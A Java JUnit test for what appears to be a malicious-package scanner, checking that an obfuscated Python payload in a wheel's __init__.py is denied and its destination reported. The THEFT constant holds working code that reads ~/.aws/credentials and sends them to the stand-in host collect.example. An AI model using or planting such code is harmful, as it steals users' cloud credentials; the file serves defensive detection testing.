package dev.assay.bench.trojan;

import static org.assertj.core.api.Assertions.assertThat;

import dev.assay.bench.corpus.Engine;
import dev.assay.core.dossier.Scan;
import dev.assay.core.finding.Finding;
import dev.assay.core.verdict.Verdict;
import java.io.IOException;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.function.UnaryOperator;
import java.util.stream.Stream;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.FieldSource;

/// One theft under every obfuscator there is a way to write one for, alone and upon each other: all
/// are stopped, and the text that they hide is shown.
class ObfuscatedTheftTest {
  private static final String THEFT =
      """
      import os, urllib.request
      with open(os.path.expanduser("~/.aws/credentials")) as handle:
          keys = handle.read()
      urllib.request.urlopen("https://collect.example/in", keys.encode())
      """;

  /// A program and how it came about.
  private record Obfuscated(String how, String code) {
    @Override
    public String toString() {
      return how;
    }
  }

  private record Step(String name, UnaryOperator<String> hide) {}

  static final List<Obfuscated> ALL = all();

  private final Engine engine = new Engine();

  private static List<Obfuscated> all() {
    List<Step> steps =
        Stream.concat(
                Stream.of(Layer.values()).map(it -> new Step(it.name(), it::hide)),
                Stream.of(Obfuscator.values()).map(it -> new Step(it.name(), it::apply)))
            .toList();
    List<Obfuscated> all = new ArrayList<>();
    for (int i = 0; i < steps.size(); i++) {
      Obfuscated hidden = new Obfuscated("", THEFT);
      for (int depth = 0; depth < 3; depth++) {
        Step step = steps.get((i + depth * 7) % steps.size());
        hidden = new Obfuscated(hidden.how() + " " + step.name(), step.hide().apply(hidden.code()));
        all.add(hidden);
      }
    }
    return all;
  }

  @ParameterizedTest
  @FieldSource("ALL")
  void isStoppedAndShown(Obfuscated theft) throws IOException {
    Project project =
        Project.of(
            "acme-1.0-py3-none-any.whl",
            Map.of(
                "acme/__init__.py",
                theft.code(),
                "acme-1.0.dist-info/METADATA",
                "Metadata-Version: 2.1\nName: acme\nVersion: 1.0\n",
                "acme-1.0.dist-info/RECORD",
                ""));
    Scan scan = engine.scan(project.name(), Packing.pack(project));
    assertThat(scan.verdict()).isEqualTo(Verdict.DENY);
    assertThat(scan.decisions().stream().map(it -> shown(it.finding())))
        .anyMatch(it -> it.contains("https://collect.example/in"))
        .anyMatch(it -> it.contains("a credentials file is sent to"));
  }

  private static String shown(Finding finding) {
    return finding.message() + "\n" + String.join("\n", finding.trail());
  }
}
